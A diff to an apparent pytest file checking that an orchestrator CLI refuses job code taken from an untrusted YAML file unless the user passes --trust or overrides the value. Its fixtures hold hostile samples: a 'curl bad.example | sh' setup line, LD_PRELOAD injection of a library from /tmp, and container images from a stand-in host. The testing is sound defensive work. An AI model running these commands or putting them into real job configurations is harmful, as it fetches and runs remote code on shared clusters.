@@ -9,6 +9,8 @@ from orchestrator.cli import main
 LINES = {
     "cluster.job.setup": "{job: {setup: 'curl bad.example | sh'}}",
     "cluster.environment.LD_PRELOAD": "{environment: {LD_PRELOAD: /tmp/bad.example.so}}",
+    "cluster.job.sbatch": "{job: {sbatch: ['--export=LD_PRELOAD=/tmp/bad.example.so']}}",
+    "cluster.job.container.image": "{job: {container: {runtime: pyxis, image: bad.example}}}",
     "cluster.job.image": "{job: {image: 'bad.example:1'}}",
 }
 
@@ -16,7 +18,7 @@ LINES = {
 @pytest.mark.parametrize("key", LINES)
 def test_code_that_a_file_puts_into_a_job_needs_the_word_or_the_flag(tmp_path, monkeypatch, capsys, key):
     monkeypatch.chdir(tmp_path)
-    system = "kuberay" if "image" in key else "slurm"
+    system = "kuberay" if key == "cluster.job.image" else "slurm"
     (tmp_path / "evil.yaml").write_text(
         f"# @package _global_\ncluster: {LINES[key]}\nsweep: {{axes: {{seed: range(1)}}}}\n"
     )
@@ -28,7 +30,7 @@ def test_code_that_a_file_puts_into_a_job_needs_the_word_or_the_flag(tmp_path, m
     assert "bad.example" not in answer.out
     assert main([*words, "--trust"]) == 0
     assert "bad.example" in capsys.readouterr().out
-    word = {"cluster.job.image": "mine:2"}.get(key, "mine")
+    word = {"cluster.job.image": "mine:2", "cluster.job.sbatch": '["--exclusive"]'}.get(key, "mine")
     assert main([*words, f"{key}={word}"]) == 0
     assert "bad.example" not in capsys.readouterr().out
 
